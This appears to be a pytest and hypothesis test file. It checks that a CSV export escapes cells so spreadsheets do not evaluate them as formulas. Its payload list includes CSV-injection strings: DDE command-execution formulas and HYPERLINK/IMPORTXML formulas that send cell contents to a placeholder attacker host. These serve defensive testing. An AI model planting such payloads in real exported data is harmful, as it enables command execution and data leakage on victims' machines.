"""Cells of a CSV as a spreadsheet takes them: nothing but numbers is worked out, by whatever
separator the file is read.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from archprof.show.table import Table, TableColumn, render
from archprof.units import csv_cell, from_csv_cell, printable

# OWASP, CSV Injection; PayloadsAllTheThings, CSV Injection; and full-width and small forms
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "\xa0+1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1+1",
    "﹣1+1",
    "﹫x",
    "−1+1",
    "-1+1",
    "+1-1",
    "-1e5x",
    "--1",
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
    "x;=1+1",
    "x; =1+1",
    'x;"=1+1',
    'x;""=1',
    '";=1+1',
    "x\t=1+1",
    "x;;@A1",
    "-١",
    "+1,5",
    "-1.",
    "+.5",
    "-0x10",
    "=",
    "@",
    "'=1+1",
    '"=1+1"',
    "=1\u20281",
    "\u200b=1+1",
    "\ufeff=1+1",
    ";=1",
)

TEXTS = st.one_of(
    st.lists(st.sampled_from((*PAYLOADS, ";", '"', ",", " ", "'", "1", "x")), max_size=4).map(
        "".join
    ),
    st.text(max_size=12),
    st.text("=+-@;,\"' \t1.ex−＝", max_size=10),
)


def computes(cell: str) -> bool:
    """Whether a spreadsheet works this out: it begins with a formula's sign, blanks and width
    aside, and is neither a number nor a lone dash.
    """
    text = unicodedata.normalize("NFKC", cell.strip()).replace("\u2212", "-").strip()
    number = re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?(e[+-]?[0-9]+)?", text, re.IGNORECASE)
    return text[:1] in ("=", "+", "-", "@") and not number and text != "-"


LEADING_NUMBERS = re.compile(r"^([+-]?[0-9]+(\.[0-9]+)?(e[+-]?[0-9]+)?,)+", re.I | re.M)


def cells(text: str) -> list[str]:
    """Every cell of a file, read with each of the separators that a spreadsheet may guess.

    With another than the comma a line's bare numbers at its beginning are part of a longer text:
    `-1,x` is not a formula, so that only what follows them is looked at.
    """
    found = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    rest = LEADING_NUMBERS.sub("", text)
    for sign in ";\t|":
        found += [cell for row in csv.reader(io.StringIO(rest), delimiter=sign) for cell in row]
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_known_payloads(payload: str) -> None:
    assert computes("=1+1")
    table = Table(
        [TableColumn("A", right=False), TableColumn("B"), TableColumn("C")],
        [[payload, "1", payload], ["x", payload, "-"]],
    )
    assert not [cell for cell in cells(render(table, "csv")) if computes(cell)]


@settings(max_examples=400)
@given(st.lists(TEXTS, min_size=3, max_size=3))
def test_whatever_stands_in_a_row(row: list[str]) -> None:
    table = Table([TableColumn("A"), TableColumn("B"), TableColumn("C")], [row])
    text = render(table, "csv")
    assert not [cell for cell in cells(text) if computes(cell)]
    read = list(csv.reader(io.StringIO(text)))[1]
    # nothing else is changed
    assert [cell.replace("'", "") for cell in read] == [
        "" if cell == "-" else printable(cell).replace("'", "") for cell in row
    ]


@pytest.mark.parametrize(
    "text",
    [
        "1",
        "-16",
        "+1",
        "0.25",
        "-1.5e-3",
        "1E9",
        "a-b",
        "conv2d",
        "3x3",
        "-",
        "",
        "a=1",
        "x + y",
        "12 %",
        "resnet50",
    ],
)
def test_numbers_and_words_stay_bare(text: str) -> None:
    assert csv_cell(text) == text


@given(TEXTS.filter(lambda text: "'" not in text))
def test_a_sheet_reads_what_it_wrote(text: str) -> None:
    assert from_csv_cell(csv_cell(f"network={text}")) == printable(f"network={text}")
    assert from_csv_cell(csv_cell(text)).removeprefix("'") == printable(text)
